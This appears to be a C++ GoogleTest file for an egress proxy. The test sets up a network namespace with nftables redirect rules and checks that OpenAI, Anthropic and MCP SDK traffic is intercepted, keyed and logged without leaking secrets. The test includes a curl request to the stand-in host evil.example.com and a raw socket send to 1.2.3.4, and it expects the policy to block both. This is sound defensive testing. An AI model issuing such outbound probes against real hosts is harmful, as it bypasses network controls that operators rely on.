        fmt::format("ip link set {} up", host_if_),
        fmt::format("ip netns exec {} ip addr add {}/30 dev {}", ns_, sandbox_ip_, sandbox_if_),
        fmt::format("ip netns exec {} ip link set {} up", ns_, sandbox_if_),
        fmt::format("ip netns exec {} ip link set lo up", ns_),
        fmt::format("ip netns exec {} ip route add default via {}", ns_, host_ip_),
        fmt::format("nft add table ip {}", table_),
        fmt::format("nft 'add chain ip {} prerouting {{ type nat hook prerouting priority dstnat; "
                    "policy accept; }}'",
                    table_),
        fmt::format("nft 'add rule ip {} prerouting iifname \"{}\" udp dport 53 redirect to :{}'",
                    table_, host_if_, dns_port),
        fmt::format("nft 'add rule ip {} prerouting iifname \"{}\" meta l4proto tcp redirect to "
                    ":{}'",
                    table_, host_if_, tcp_port),
        fmt::format("nft 'add chain ip {} input {{ type filter hook input priority filter; policy "
                    "accept; }}'",
                    table_),
        fmt::format("nft 'add rule ip {} input iifname \"{}\" ct state established,related "
                    "accept'",
                    table_, host_if_),
        fmt::format("nft 'add rule ip {} input iifname \"{}\" tcp dport {} accept'", table_,
                    host_if_, tcp_port),
        fmt::format("nft 'add rule ip {} input iifname \"{}\" udp dport {} accept'", table_,
                    host_if_, dns_port),
        fmt::format("nft 'add rule ip {} input iifname \"{}\" drop'", table_, host_if_),
        fmt::format("mkdir -p /etc/netns/{} && echo 'nameserver 9.9.9.9' > "
                    "/etc/netns/{}/resolv.conf",
                    ns_, ns_),
    };
    for (const auto& command : commands) {
      auto result = testing::runCommand(command);
      if (result.exit_code != 0) return command + ": " + result.output;
    }
    made_ = true;
    return "";
  }

  void teardown() {
    testing::runCommand(fmt::format("ip netns del {} 2>/dev/null", ns_));
    testing::runCommand(fmt::format("ip link del {} 2>/dev/null", host_if_));
    testing::runCommand(fmt::format("nft delete table ip {} 2>/dev/null", table_));
    testing::runCommand(fmt::format("rm -rf /etc/netns/{}", ns_));
  }

  // Runs `command` inside the namespace.
  testing::CommandResult run(const std::string& command) const {
    return testing::runCommand(fmt::format("ip netns exec {} sh -c '{}'", ns_, command));
  }

  const std::string& hostIp() const { return host_ip_; }
  const std::string& sandboxIp() const { return sandbox_ip_; }

 private:
  std::string ns_, host_if_, sandbox_if_, host_ip_, sandbox_ip_, table_;
  bool made_ = false;
};

TEST_F(EgressTest, TransparentInterceptionWithRealSdksInANetworkNamespace) {
  std::string clients = testing::sourcePath("tests/clients");
  if (!fs::exists(clients + "/node_modules/openai")) GTEST_SKIP() << "npm clients not installed";
  SandboxNet net;
  // Listeners on the host side of the veth; the identity map says who the sandbox is.
  std::string host_ip = net.hostIp();
  egress::ProxyOptions options;
  options.extra_upstream_ca_pem = (*upstream_ca_)->certPem();
  for (const auto& [host, mock] : *mocks_) {
    uint16_t port = host == "mcp.internal" ? 80 : host == "pass.example.com" ? 9443 : 443;
    options.upstream_overrides.emplace_back(fmt::format("{}:{}", host, port),
                                            fmt::format("127.0.0.1:{}", mock->port()));
  }
  // Bind on a free port first, then create the rules with that port.
  options.transparent_listen = "0.0.0.0:0";
  options.dns_listen = "0.0.0.0:0";
  auto proxy = egress::Proxy::start(options, governed_, identities_, pipeline_.get());
  ASSERT_TRUE(proxy.ok()) << proxy.status().toString();
  std::string error = net.setUp(proxy.value()->transparentPort(), proxy.value()->dnsPort());
  if (!error.empty()) GTEST_SKIP() << "cannot build the sandbox network: " << error;
  egress::Identity identity;
  identity.namespace_name = "default";
  identity.agent = "openai-bot";
  identity.agent_kind = "TaskAgent";
  identity.execution_id = "exec-42";
  identity.request_id = "req-7";
  identity.caller = {{"user", "alice"}, {"tenant", "acme"}};
  identities_.set(net.sandboxIp(), identity);
  std::string ca = (*dir_ / "transparent-ca.pem").string();
  std::ofstream(ca) << proxy.value()->caCertificatePem();

  // The openai SDK with its default base URL, trusting the CA only through NODE_EXTRA_CA_CERTS.
  auto openai = net.run(
      fmt::format("cd {} && NODE_EXTRA_CA_CERTS={} OPENAI_API_KEY=sk-agent-own OPENAI_BASE_URL="
                  "https://api.openai.com/v1 PROMPT=\"one two\" node openai_chat.mjs",
                  clients, ca));
  EXPECT_EQ(openai.exit_code, 0) << openai.output;
  EXPECT_THAT(openai.output, HasSubstr("\"ok\":true"));
  auto requests = mock("api.openai.com").requests();
  ASSERT_FALSE(requests.empty());
  EXPECT_EQ(requests.back().api_key, kOpenAiSecret);

  // The anthropic SDK, streaming.
  auto anthropic = net.run(
      fmt::format("cd {} && NODE_EXTRA_CA_CERTS={} ANTHROPIC_API_KEY=mine ANTHROPIC_BASE_URL="
                  "https://api.anthropic.com STREAM=1 node anthropic_messages.mjs",
                  clients, ca));
  EXPECT_EQ(anthropic.exit_code, 0) << anthropic.output;
  EXPECT_THAT(anthropic.output, HasSubstr("\"ok\":true"));

  // The MCP SDK over plain HTTP.
  auto mcp =
      net.run(fmt::format("cd {} && MCP_URL=http://mcp.internal/mcp node mcp_call.mjs", clients));
  EXPECT_EQ(mcp.exit_code, 0) << mcp.output;

  // curl trusting the CA through CURL_CA_BUNDLE-style flags; a host the policy denies.
  auto denied = net.run(fmt::format(
      "curl -sS --max-time 10 --cacert {} -w \" HTTP %{{http_code}}\" https://evil.example.com/",
      ca));
  EXPECT_THAT(denied.output, HasSubstr("HTTP 403"));
  // Opaque (non-HTTP, non-TLS) bytes to an IP literal: no listener takes them, the connection
  // is closed without an answer.
  auto raw = net.run(
      "/usr/bin/python3 -c \"import socket; s=socket.create_connection((\\\"1.2.3.4\\\", 5432), "
      "timeout=5); s.sendall(bytes([0, 1, 2, 3])); print(\\\"reply\\\", len(s.recv(100)))\"");
  EXPECT_THAT(raw.output, HasSubstr("reply 0")) << raw.output;

  auto all = records();
  bool saw_openai = false;
  bool saw_mcp = false;
  for (const auto& record : all) {
    if (record.name.find("api.openai.com /v1/chat/completions") != std::string::npos) {
      saw_openai = true;
      EXPECT_EQ(str(record, telemetry::attr::kClrkExecutionId), "exec-42");
      EXPECT_EQ(str(record, telemetry::attr::kClrkRequestId), "req-7");
      EXPECT_EQ(str(record, telemetry::attr::kClrkAgent), "openai-bot");
      // The caller identity of the execution, marked as not authenticated.
      EXPECT_EQ(str(record, "clrk.identity.user"), "alice");
      EXPECT_EQ(str(record, "clrk.identity.tenant"), "acme");
      const auto* verified = telemetry::find(record, telemetry::attr::kClrkIdentityVerified);
      ASSERT_NE(verified, nullptr);
      EXPECT_EQ(std::get<bool>(*verified), false);
      EXPECT_EQ(num(record, telemetry::attr::kGenAiUsageInputTokens),
                mockprovider::countTokens("You are terse.") + mockprovider::countTokens("one two"));
    }
    if (str(record, telemetry::attr::kMcpMethodName) == "tools/call") saw_mcp = true;
    EXPECT_THAT(telemetry::toJson(record), Not(HasSubstr(kOpenAiSecret)));
  }
  EXPECT_TRUE(saw_openai);
  EXPECT_TRUE(saw_mcp);
  proxy.value()->stop();
}

}  // namespace
}  // namespace clrk
